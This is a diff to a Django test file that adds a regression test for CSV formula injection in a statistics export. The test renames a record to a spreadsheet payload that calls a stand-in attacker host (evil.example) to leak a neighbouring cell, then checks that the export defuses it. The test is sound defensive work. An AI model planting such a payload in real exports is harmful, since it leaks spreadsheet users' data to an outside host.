@@ -1,6 +1,8 @@
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 from dataclasses import replace
 
 import pytest
@@ -95,6 +97,20 @@ def test_each_table_downloads_as_csv_with_exact_german_numbers(
     assert "Allgemeine Verwaltung;1;50000,00;1;150000,00" in text
     assert "Summe;2;65000,00;3;240000,00" in text
     assert client.get(reverse("reports:table-csv", args=["gibtsnicht"]), {"jahr": 2021}).status_code == 404
+
+
+def test_a_name_that_looks_like_a_formula_is_inert_in_the_statistics_csv(
+    client: Client, clara: User, dataset: Dataset
+) -> None:
+    from cooperations.models import FieldOfAction
+
+    hostile = '=HYPERLINK("http://evil.example/?d="&A2;"Details")'
+    FieldOfAction.objects.filter(name="Allgemeine Verwaltung").update(name=hostile)
+    client.force_login(clara)
+    response = client.get(reverse("reports:table-csv", args=["handlungsfelder"]), {"jahr": 2021})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert ["'" + hostile, "1", "50000,00", "1", "150000,00"] in rows
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
 
 
 def test_the_dashboard_query_count_does_not_grow_with_rows(
